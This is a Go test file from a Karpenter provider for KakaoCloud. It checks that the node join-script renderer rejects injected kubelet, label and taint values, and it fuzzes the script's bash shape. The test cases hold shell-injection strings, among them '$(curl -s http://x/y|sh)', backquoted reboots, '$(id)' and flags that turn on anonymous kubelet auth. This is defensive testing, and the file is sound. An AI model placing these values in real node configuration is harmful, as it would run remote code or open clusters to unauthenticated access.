// Copyright 2026 The karpenter-provider-kakaocloud Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package bootstrap_test

import (
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"mvdan.cc/sh/v3/syntax"

	kcv1 "github.com/kakaocloud/karpenter-provider-kakaocloud/api/kakaocloud/v1"
	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/bootstrap"
	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/instancetype"
)

// options is a join script's input with the given kubelet settings, labels and taints.
func options(kubelet *kcv1.KubeletConfiguration, labels map[string]string, taints ...corev1.Taint) bootstrap.Options {
	return bootstrap.Options{
		Endpoint: "https://10.0.0.1:6443", CABundle: []byte(ca), Token: "abcdef.0123456789abcdef",
		Labels: labels, Taints: taints, Kubelet: kubelet, Reservations: instancetype.KubeletReservations{MaxPods: 110},
	}
}

// withEvictionHard is o with the hard eviction thresholds of its reservations set.
func withEvictionHard(o bootstrap.Options, thresholds map[string]string) bootstrap.Options {
	o.Reservations.EvictionHard = thresholds
	return o
}

// TestUserDataRefusesValuesThatAreNotTheirForm renders the values a KCNodeClass or a NodeClaim
// could carry past the API server's validation (an object written before it, or with it
// bypassed): each is refused with the field named, instead of being written into the script.
func TestUserDataRefusesValuesThatAreNotTheirForm(t *testing.T) {
	for _, tc := range []struct {
		name string
		o    bootstrap.Options
		want string
	}{
		{"a command substitution as cluster DNS",
			options(&kcv1.KubeletConfiguration{ClusterDNS: []string{"$(curl -s http://x/y|sh)"}}, nil), "kubelet.clusterDNS"},
		{"a flag after a cluster DNS address",
			options(&kcv1.KubeletConfiguration{ClusterDNS: []string{"10.96.0.10 --anonymous-auth=true"}}, nil), "kubelet.clusterDNS"},
		{"a back-quoted command after an eviction percentage",
			withEvictionHard(options(nil, nil), map[string]string{"memory.available": "5%`reboot`"}), "kubelet.evictionHard"},
		{"a flag as an eviction signal",
			withEvictionHard(options(nil, nil), map[string]string{"memory.available<1Gi --anonymous-auth": "5%"}), "kubelet.evictionHard"},
		{"a negative evictionSoft quantity",
			options(&kcv1.KubeletConfiguration{EvictionSoft: map[string]string{"memory.available": "-1Gi"}}, nil), "kubelet.evictionSoft"},
		{"a label value with a space",
			options(nil, map[string]string{"team": "a --anonymous-auth=true"}), `label "team"`},
		{"a label key with a dollar",
			options(nil, map[string]string{"$(reboot)": "x"}), `label "$(reboot)"`},
		{"a taint value with a quote",
			options(nil, nil, corev1.Taint{Key: "dedicated", Value: `x" --v=9 "`, Effect: corev1.TaintEffectNoSchedule}), `taint "dedicated=x`},
		{"a taint with an unknown effect",
			options(nil, nil, corev1.Taint{Key: "dedicated", Effect: "Reboot"}), `effect "Reboot"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			script, err := bootstrap.UserData(tc.o)
			if err == nil {
				t.Fatalf("rendered:\n%s", script)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not name %s", err, tc.want)
			}
		})
	}
}

// FuzzUserDataRunsOnlyItsOwnCommands renders the join script from arbitrary kubelet settings,
// labels and taints and reads it as bash does: whatever the values, the script is refused or
// runs exactly the commands and expansions of the script rendered from ordinary values, in the
// same order.
func FuzzUserDataRunsOnlyItsOwnCommands(f *testing.F) {
	for _, seed := range [][7]string{
		{"10.96.0.10", "100m", "5%", "team", "checkout", "dedicated", "app"},
		{"$(curl -s http://x/y|sh)", "lots", "5%`reboot`", "a", "b", "c", "d"},
		{"10.96.0.10 --anonymous-auth=true", `1Gi" --authorization-mode=AlwaysAllow "`, "1Gi'; reboot; '", "x\ny", "v'", "k", "v\"$(id)\""},
		{"fd00::a", "1e3", "100%", "example.com/tier", "gold", "example.com/gpu", ""},
	} {
		f.Add(seed[0], seed[1], seed[2], seed[3], seed[4], seed[5], seed[6])
	}
	want := scriptShape(f, mustRender(f, fuzzOptions("10.96.0.10", "100m", "5%", "team", "checkout", "dedicated", "app")))
	f.Fuzz(func(t *testing.T, dns, reserved, eviction, labelKey, labelValue, taintKey, taintValue string) {
		script, err := bootstrap.UserData(fuzzOptions(dns, reserved, eviction, labelKey, labelValue, taintKey, taintValue))
		if err != nil {
			return
		}
		if got := scriptShape(t, script); got != want {
			t.Fatalf("the script runs other commands or expansions:\n got %s\nwant %s\nscript:\n%s", got, want, script)
		}
	})
}

func fuzzOptions(dns, reserved, eviction, labelKey, labelValue, taintKey, taintValue string) bootstrap.Options {
	return withEvictionHard(options(&kcv1.KubeletConfiguration{
		ClusterDNS:   []string{dns},
		EvictionSoft: map[string]string{"nodefs.available": eviction, "memory.available": reserved},
	}, map[string]string{labelKey: labelValue}, corev1.Taint{Key: taintKey, Value: taintValue, Effect: corev1.TaintEffectNoSchedule}),
		map[string]string{"memory.available": eviction, "nodefs.available": reserved})
}

func mustRender(tb testing.TB, o bootstrap.Options) string {
	tb.Helper()
	script, err := bootstrap.UserData(o)
	if err != nil {
		tb.Fatal(err)
	}
	return script
}

// scriptShape lists, in order, what bash would run and expand in script: each command's name,
// each parameter expansion, each command substitution and each heredoc that expands.
func scriptShape(tb testing.TB, script string) string {
	tb.Helper()
	file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(script), "userdata")
	if err != nil {
		tb.Fatalf("the script is not valid bash: %v\n%s", err, script)
	}
	var shape []string
	syntax.Walk(file, func(node syntax.Node) bool {
		switch n := node.(type) {
		case *syntax.CallExpr:
			if len(n.Args) > 0 {
				shape = append(shape, "run "+wordText(n.Args[0]))
			}
		case *syntax.ParamExp:
			shape = append(shape, "expand $"+n.Param.Value)
		case *syntax.CmdSubst:
			shape = append(shape, "substitute")
		case *syntax.ArithmExp, *syntax.ProcSubst:
			shape = append(shape, fmt.Sprintf("%T", n))
		case *syntax.Redirect:
			if n.Hdoc != nil && !quotedDelimiter(n.Word) {
				shape = append(shape, "expanding heredoc")
			}
		}
		return true
	})
	return strings.Join(shape, "; ")
}

func wordText(w *syntax.Word) string {
	var b strings.Builder
	if err := syntax.NewPrinter().Print(&b, w); err != nil {
		return fmt.Sprintf("unprintable word: %v", err)
	}
	return b.String()
}

// quotedDelimiter reports whether a heredoc's delimiter is quoted, which makes its body
// literal.
func quotedDelimiter(w *syntax.Word) bool {
	for _, part := range w.Parts {
		switch part.(type) {
		case *syntax.SglQuoted, *syntax.DblQuoted:
			return true
		}
	}
	return false
}
